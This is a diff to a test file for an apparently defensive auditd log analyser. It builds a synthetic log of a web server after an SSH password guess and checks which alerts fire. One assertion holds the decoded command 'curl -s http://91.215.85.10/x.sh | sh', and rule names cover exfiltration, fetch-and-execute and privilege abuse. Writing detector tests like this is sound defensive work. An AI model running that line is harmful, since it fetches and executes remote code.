@@ -82,7 +82,11 @@ describe('Linux process rules', () => {
   });
 });
 
-/** A web server's raw audit.log: SYSCALL, EXECVE (arguments with spaces in hex, as auditd writes them), CWD and PROCTITLE per program run; sshd's USER_AUTH and USER_LOGIN. */
+/**
+ * A web server's raw audit.log in auditd's default ENRICHED format (names of ids appended after a 0x1D): SYSCALL,
+ * EXECVE (arguments with spaces in hex, as auditd writes them), CWD and PROCTITLE per program run; sshd's USER_AUTH
+ * and USER_LOGIN.
+ */
 function auditLog(): string[] {
   const rows: string[] = [];
   let serial = 9000;
@@ -92,13 +96,13 @@ function auditLog(): string[] {
   const run = (sec: number, uid: number, args: string[]): void => {
     const at = stamp(sec);
     const comm = args[0]!.split('/').pop()!;
-    rows.push(`type=SYSCALL msg=audit(${at}): arch=c000003e syscall=59 success=yes exit=0 a0=55d5c0a0 a1=55d5c0b0 a2=55d5c0c0 a3=0 items=2 ppid=2000 pid=${3000 + (serial % 5000)} auid=1001 uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid} tty=pts0 ses=7 comm="${comm}" exe="/usr/bin/${comm}" subj=unconfined key="exec"`);
+    rows.push(`type=SYSCALL msg=audit(${at}): arch=c000003e syscall=59 success=yes exit=0 a0=55d5c0a0 a1=55d5c0b0 a2=55d5c0c0 a3=0 items=2 ppid=2000 pid=${3000 + (serial % 5000)} auid=1001 uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid} tty=pts0 ses=7 comm="${comm}" exe="/usr/bin/${comm}" subj=unconfined key="exec"\u001dARCH=x86_64 SYSCALL=execve AUID="deploy" UID="${uid === 0 ? 'root' : 'deploy'}" GID="${uid === 0 ? 'root' : 'deploy'}"`);
     rows.push(`type=EXECVE msg=audit(${at}): argc=${args.length} ${args.map((a, i) => `a${i}=${/[\s"'\\$]/.test(a) ? hex(a) : `"${a}"`}`).join(' ')}`);
     rows.push(`type=CWD msg=audit(${at}): cwd="/home/deploy"`);
     rows.push(`type=PROCTITLE msg=audit(${at}): proctitle=${hex(args.join('\u0000'))}`);
   };
   const auth = (sec: number, addr: string, res: 'success' | 'failed'): void => {
-    rows.push(`type=USER_AUTH msg=audit(${stamp(sec)}): pid=812 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=PAM:authentication grantors=${res === 'success' ? 'pam_unix' : '?'} acct="deploy" exe="/usr/sbin/sshd" hostname=${addr} addr=${addr} terminal=ssh res=${res}'`);
+    rows.push(`type=USER_AUTH msg=audit(${stamp(sec)}): pid=812 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=PAM:authentication grantors=${res === 'success' ? 'pam_unix' : '?'} acct="deploy" exe="/usr/sbin/sshd" hostname=${addr} addr=${addr} terminal=ssh res=${res}'\u001dUID="root" AUID="unset"`);
     if (res === 'success') rows.push(`type=USER_LOGIN msg=audit(${stamp(sec + 1)}): pid=812 uid=0 auid=1001 ses=7 subj=unconfined msg='op=login id=1001 exe="/usr/sbin/sshd" hostname=${addr} addr=${addr} terminal=/dev/pts/0 res=success'`);
   };
   // trap: a day of the deploy user's and cron's work, and the admin's logins from the office every 10 to 15 minutes
@@ -149,7 +153,10 @@ describe('an auditd log after a guessed SSH password', () => {
       'high:auditoff', 'high:decodeexec', 'high:exfil', 'high:fetchexec', 'high:kmod', 'high:lockfiles', 'high:preload', 'high:suid', 'high:uid0', 'medium:cron',
     ]);
     // the hidden command is shown decoded, as text
-    expect(procs.find((f) => f.numbers.rule === 'decodeexec')!.explanation).toContain('decodes to “curl -s http://91.215.85.10/x.sh | sh” (shown, never run)');
+    const decoded = procs.find((f) => f.numbers.rule === 'decodeexec')!;
+    expect(decoded.explanation).toContain('decodes to “curl -s http://91.215.85.10/x.sh | sh” (shown, never run)');
+    // who ran it: the SYSCALL record just before names the login user (auid) and whom it ran as
+    expect(decoded.explanation).toContain('as root (logged in as deploy)');
     // sshd's records name the program (exe), not a path: the guessing is SSH's, and it worked
     const brute = found.find((f) => f.detector === 'bruteForce')!;
     expect(brute.severity).toBe('critical');
